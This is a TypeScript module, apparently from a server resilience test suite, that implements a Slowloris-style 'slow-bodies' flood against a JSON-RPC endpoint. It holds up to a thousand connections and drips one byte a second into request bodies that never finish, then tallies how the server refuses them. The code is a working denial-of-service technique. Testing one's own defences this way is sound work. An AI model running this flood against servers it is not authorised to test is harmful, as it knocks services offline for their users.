import { connect, type Socket } from "node:net";

import { keptAway, type Flood } from "../attack.ts";
import { Counter } from "../counter.ts";
import { flood } from "../pace.ts";
import { doorOf } from "../wire.ts";

/** Requests a second at ten times the honest load, and how many are kept alive. */
const RATE = 50;
const HELD = 1_000;
/** Milliseconds between two bytes. */
const BYTE_EVERY = 1_000;

/** Bodies that never end (Slowloris). */
export const slowBodies: Flood = {
  kind: "flood",
  name: "slow-bodies",
  group: "json-rpc",
  what: "Requests whose bodies come a byte a second",
  guard: true,
  ownNetwork: false,
  rate: `${String(RATE)} requests a second, ${String(HELD)} held`,
  bound: keptAway(
    "a request must be here in 10 s, an address works on 8 at a time and holds 64 connections",
  ),
  async start({ url, times, seconds }, signal) {
    const counter = new Counter();
    const door = doorOf(url);
    const held = new Set<Socket>();
    const drip = setInterval(() => {
      for (const socket of held) socket.write(" ");
    }, BYTE_EVERY);
    const pace = { perSecond: (RATE * times) / 10, seconds, most: HELD };
    await flood(pace, counter, signal, () => {
      if (held.size >= HELD) {
        counter.lose("no more are held");
        return;
      }
      const socket = connect(door);
      held.add(socket);
      let said = "";
      socket.on("error", () => undefined);
      socket.on("data", (chunk) => (said ||= chunk.toString("latin1").split("\r\n")[0] ?? ""));
      socket.once("close", () => {
        held.delete(socket);
        counter.refuse(said === "" ? "closed" : said);
      });
      socket.write(
        `POST / HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n`,
      );
    });
    clearInterval(drip);
    for (const socket of held) {
      socket.removeAllListeners("close");
      counter.pass();
      socket.destroy();
    }
    return counter.tally;
  },
};
